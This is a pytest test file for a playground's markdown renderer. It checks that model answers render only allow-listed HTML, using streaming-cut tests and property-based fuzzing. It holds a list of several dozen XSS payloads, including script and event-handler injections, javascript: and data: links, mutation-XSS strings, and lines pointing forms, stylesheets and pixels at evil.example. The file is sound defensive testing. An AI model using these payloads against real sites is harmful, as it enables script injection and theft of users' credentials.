from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from playground import reading, rendering
from playground.rendering import render_answer
from playground.types import Token
from tests.playground.builders import answer

# What an element may carry: nothing else may come out, whatever goes in.
ALLOWED = {
    "a": {"href", "target", "rel", "class"},
    "ol": {"start"},
    "pre": {"tabindex"},
    "div": {"class", "tabindex"},
    "table": {"class"},
    **{tag: set() for tag in ("p", "br", "hr", "strong", "em", "s", "code", "blockquote")},
    **{tag: set() for tag in ("ul", "li", "thead", "tbody", "tr", "th", "td")},
}  # fmt: skip

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example'</style>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<p hx-get='/admin/' hx-trigger=load>x</p>",
    "<div data-hx-on:load='alert(1)'>x</div>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\\u006aavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/admin/logout/)",
    "[x](blob:https://evil.example/1)",
    "[x](https://evil.example/\"onmouseover=alert(1)//)",
    "[x](<https://evil.example/' onclick='alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://e.example "title\\" onclick=alert(1)")',
    "![x](https://evil.example/pixel.png)",
    "![x\" onerror=\"alert(1)](x)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<https://evil.example/?q=<script>alert(1)</script>>",
    "```\"><img src=x onerror=alert(1)>\ncode\n```",
    "```html onclick=alert(1)\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "|<img src=x onerror=alert(1)>|b|\n|-|-|\n|<script>alert(1)</script>|[x](javascript:alert(1))|",
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>\n  <svg onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror\x00=alert(1)>",
    "<\x00script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>",
    "$$\\href{javascript:alert(1)}{x}$$",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<a id=csrf_token name=cookie>clobber</a>",
]  # fmt: skip


class Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.text = ""

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data


def elements(html):
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser


def harm(html):
    """What of it is not on the list."""
    bad = []
    for tag, attrs in elements(html).found:
        bad += [(tag, name) for name in attrs if name not in ALLOWED.get(tag, set())]
        if tag not in ALLOWED:
            bad.append((tag, ""))
        href = attrs.get("href")
        if href is not None and not href.lower().startswith(("http://", "https://")):
            bad.append((tag, href))
    return bad


@pytest.mark.parametrize("payload", PAYLOADS)
def test_answer_never_becomes_more_than_text(payload):
    assert harm(render_answer(payload)) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_answer_is_harmless_however_the_stream_was_cut(payload):
    stream = answer(payload[:5], payload[5:])
    for place in range(len(stream)):
        reader = reading.StreamReader()
        pieces = reader.feed(stream[:place]) + reader.feed(stream[place:])
        text = "".join(p.text for p in pieces if isinstance(p, Token))
        assert text == payload


MARKS = st.sampled_from(["<", ">", '"', "'", "`", "[", "](", ")", "!", "javascript:", "&#x3c;", "|", "\n", "on", "=", "script", "a", " "])  # fmt: skip


@given(st.lists(MARKS | st.text(max_size=3), max_size=40).map("".join))
def test_any_text_stays_harmless(text):
    assert harm(render_answer(text)) == []


def test_cleaning_alone_would_be_enough():
    html = rendering._clean("".join(PAYLOADS))

    assert harm(html) == []


def test_html_is_shown_as_it_was_written():
    assert elements(render_answer("a <b>bold</b> <!-- x -->")).text.strip() == (
        "a <b>bold</b> <!-- x -->"
    )


def test_links_lead_to_a_new_tab_and_tell_nobody():
    (tag, attrs) = elements(render_answer("[x](https://example.com/a?b=c)")).found[1]

    assert (tag, attrs) == (
        "a",
        {
            "href": "https://example.com/a?b=c",
            "target": "_blank",
            "rel": "noopener noreferrer nofollow",
            "class": "text-decoration-underline",
        },
    )


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("# Title", "<p><strong>Title</strong></p>\n"),
        ("a\nb", "<p>a<br>\nb</p>\n"),
        ("~~x~~ **y** *z*", "<p><s>x</s> <strong>y</strong> <em>z</em></p>\n"),
        ("```python\nx < 1\n```", '<pre tabindex="0"><code>x &lt; 1\n</code></pre>\n'),
        ("3. x", '<ol start="3">\n<li>x</li>\n</ol>\n'),
    ],
)
def test_markdown_is_rendered(markdown, html):
    assert render_answer(markdown) == html


def test_images_are_links_at_most():
    shown = elements(render_answer("![a cat](https://example.com/cat.png)"))

    assert ([tag for tag, _ in shown.found], shown.text) == (["p", "a"], "!a cat\n")


def test_tables_scroll_by_themselves():
    found = elements(render_answer("|a|\n|-|\n|1|")).found

    assert found[:2] == [
        ("div", {"class": "table-responsive", "tabindex": "0"}),
        ("table", {"class": "table"}),
    ]


def test_endless_answers_are_not_rendered():
    text = "**<b>x</b>** " * 10_000

    html = render_answer(text)

    assert harm(html.replace(' class="plain"', "")) == []
    assert elements(html).text == text
